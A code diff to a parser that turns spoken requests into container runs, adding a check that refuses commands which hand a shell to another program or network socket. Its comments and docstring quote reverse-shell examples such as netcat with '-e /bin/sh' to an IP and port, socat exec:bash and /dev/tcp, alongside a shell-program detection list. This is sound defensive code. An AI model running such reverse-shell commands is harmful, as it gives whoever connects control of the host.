@@ -8,6 +8,7 @@ and ``_command``.
 from __future__ import annotations
 
 import re
+import shlex
 from typing import Any
 
 from ..vocabulary import STACK_NAME_PATTERN, STACK_NAME_RE
@@ -695,6 +696,12 @@ def parse_run(clause: Clause, state: State, out: Parsed, words: list[str], verb:
     env = {**spoken, **{k: v for k, v in clause.env.items() if not (k in GENERIC_KEYS and spoken)}, **{
         k: v for k, v in _env_in_words(clause.raw).items() if k not in clause.env}}
     command = command or spoken_command
+    shell = _shell_handed_over(command or [])
+    if shell:   # "run busybox with command `nc -e /bin/sh 10.0.0.5 4444`": a shell for whoever connects
+        out.questions.append(Question(text=f'Not planned: the command hands a shell to another program ({shell}), which '
+                                           'gives whoever is at its other end a shell in the container. Write the service '
+                                           'in a stack\'s compose file instead, where you can see what it runs.'))
+        return previous
     policy = re.sub(r'\bunless\s+stopped\b', 'unless-stopped', re.sub(r'\bon\s+failure\b', 'on-failure', clause.lower))
     restart = next((p for p in ('unless-stopped', 'on-failure', 'always') if p in policy), None) or restart_in_words(
         clause.lower)
@@ -707,6 +714,24 @@ def parse_run(clause: Clause, state: State, out: Parsed, words: list[str], verb:
          + ''.join(f', port {p.host_ip + ":" if p.host_ip else ""}{p.host}→{p.container}' for p in ports)
          + (f', {len(action.env)} variables' if action.env else ''))
     return Resolution(containers=[name] if name else [])
+
+
+# programs that read commands of their own: a container running one runs whatever it is fed
+SHELL_PROGRAMS = {'sh', 'bash', 'ash', 'dash', 'zsh', 'ksh', 'csh', 'tcsh', 'fish', 'pwsh', 'powershell', 'cmd', 'cmd.exe'}
+
+
+def _shell_handed_over(command: list[str]) -> str | None:
+    """The shell a command gives to another program ("nc -e /bin/sh host 4444", "socat tcp:h:1 exec:bash")
+    or to a network socket (/dev/tcp/…): None for a command that is itself a shell ("sh -c 'sleep 300'")
+    or runs none."""
+    def shell_in(word: str) -> bool:
+        return any(part.rsplit('/', 1)[-1].lower() in SHELL_PROGRAMS for part in re.split(r'[:=,]', word))
+    if any('/dev/tcp/' in w or '/dev/udp/' in w for w in command):
+        return next(w for w in command if '/dev/tcp/' in w or '/dev/udp/' in w)
+    first = command[0].rsplit('/', 1)[-1].lower() if command else ''
+    if first in SHELL_PROGRAMS:
+        return None
+    return next((w for w in command[1:] if shell_in(w)), None)
 
 
 def _name_before_image(clause: Clause, image: str | None) -> str | None:
@@ -760,7 +785,10 @@ def _command_after_image(clause: Clause) -> list[str] | None:
                                         clause.raw[:said.start(1)], re.IGNORECASE):
             return None
         after = said.group(2).strip()
-    words = after.split()
+    try:
+        words = shlex.split(after)   # "sh -c 'sleep 10'": three words, the last one quoted
+    except ValueError:   # an unbalanced quote
+        words = after.split()
     if not words or words[0].lower() in ('with', 'on', 'and', 'named', 'called', 'as', 'at', 'in', 'using', 'please', 'for',
                                          'then', 'exposed', 'listening', 'mapped', 'publishing', 'but', 'that', 'which',
                                          'restart', 'port', 'ports', 'privileged', 'detached', 'interactively', 'in',
